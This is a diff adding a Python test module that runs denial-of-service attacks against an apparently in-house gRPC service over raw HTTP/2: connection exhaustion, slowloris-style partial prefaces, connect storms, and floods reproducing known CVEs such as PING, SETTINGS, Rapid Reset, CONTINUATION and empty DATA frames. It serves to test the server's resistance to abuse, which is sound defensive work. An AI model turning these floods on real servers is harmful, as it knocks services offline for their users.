@@ -1,0 +1,134 @@
+"""Connections that cost the server more than the client, before any call is made."""
+
+from __future__ import annotations
+
+import asyncio
+import struct
+from collections.abc import Callable
+
+from tests import http2_frames as http2
+from tests.abuse.attack import SERVICE, Target, attack
+from tests.http2_frames import RawConnection
+
+_SILENT = 1_500  # more than the descriptors that a shell gives by default, 1,024
+_AT_ONCE = 4  # connections of a flood
+_FRAMES = 500  # in a write
+_CANCEL = struct.pack(">I", 8)
+_PATH = f"/{SERVICE}/GetModel"
+
+
+async def _flood(target: Target, what: str, frames: Callable[[RawConnection], list[bytes]]) -> None:
+    """Sends frames as fast as the server takes them, and connects again when it closes."""
+
+    async def send() -> None:
+        async with target.raw() as connection:
+            while target.left_s > 0 and not connection.closed:
+                each = frames(connection)
+                await connection.send(*each)
+                target.loot.sent[what] += len(each)
+                await asyncio.sleep(0)
+
+    await target.begin()
+    await target.flood(send, _AT_ONCE)
+
+
+@attack()
+async def silent_sockets(target: Target) -> None:
+    """1,500 connections that never say a word, each a descriptor."""
+
+    async def stay_silent(connection: RawConnection) -> None:
+        pass
+
+    await target.begin()
+    await target.hold_connections(_SILENT, stay_silent, preface=False)
+
+
+@attack()
+async def half_prefaces(target: Target) -> None:
+    """500 connections that send their preface, one byte at a time, and never all of it."""
+
+    async def trickle(connection: RawConnection) -> None:
+        for number in range(len(http2.PREFACE) - 1):
+            await connection.send(http2.PREFACE[number : number + 1])
+            await asyncio.sleep(0.1)
+
+    await target.begin()
+    await target.hold_connections(500, trickle, preface=False)
+
+
+@attack()
+async def idle_connections(target: Target) -> None:
+    """1,500 connections that shake hands, and then make no call."""
+
+    async def idle(connection: RawConnection) -> None:
+        pass
+
+    await target.begin()
+    await target.hold_connections(_SILENT, idle)
+
+
+@attack()
+async def connect_storm(target: Target) -> None:
+    """Connections that are closed as soon as they are open, 50 at a time."""
+
+    async def send() -> None:
+        async with target.raw(reads=False):
+            pass
+
+    await target.begin()
+    await target.flood(send, 50)
+
+
+@attack()
+async def ping_flood(target: Target) -> None:
+    """PINGs, each to be answered (CVE-2019-9512)."""
+    await _flood(target, "pings", lambda _: [http2.frame(http2.PING, bytes(8))] * _FRAMES)
+
+
+@attack()
+async def settings_flood(target: Target) -> None:
+    """SETTINGS, each to be answered (CVE-2019-9515)."""
+    await _flood(target, "settings", lambda _: [http2.frame(http2.SETTINGS)] * _FRAMES)
+
+
+@attack()
+async def rapid_reset(target: Target) -> None:
+    """Calls that are reset as soon as they are made (CVE-2023-44487)."""
+
+    def frames(connection: RawConnection) -> list[bytes]:
+        frames = []
+        for _ in range(100):
+            stream, headers = connection.call(_PATH, target.metadata)
+            body = http2.frame(http2.DATA, http2.message(b""), http2.END_STREAM, stream)
+            reset = http2.frame(http2.RST_STREAM, _CANCEL, stream=stream)
+            frames.append(headers + body + reset)
+        return frames
+
+    await _flood(target, "calls reset", frames)
+
+
+@attack()
+async def continuations(target: Target) -> None:
+    """Headers that go on and on in CONTINUATION frames (CVE-2024-27316)."""
+
+    def frames(connection: RawConnection) -> list[bytes]:
+        stream, _ = connection.call(_PATH)
+        block = http2.literal("x-a", "b" * 100) * 100
+        first = http2.frame(http2.HEADERS, http2.call_headers("a", _PATH), stream=stream)
+        return [first, *[http2.frame(http2.CONTINUATION, block, stream=stream)] * 50]
+
+    await _flood(target, "frames of headers", frames)
+
+
+@attack()
+async def empty_frames(target: Target) -> None:
+    """DATA frames without data, which no window limits (CVE-2019-9518)."""
+    opened: dict[RawConnection, int] = {}
+
+    def frames(connection: RawConnection) -> list[bytes]:
+        headers = b""
+        if connection not in opened:
+            opened[connection], headers = connection.call(_PATH, target.metadata)
+        return [headers, *[http2.frame(http2.DATA, stream=opened[connection])] * _FRAMES]
+
+    await _flood(target, "empty frames", frames)
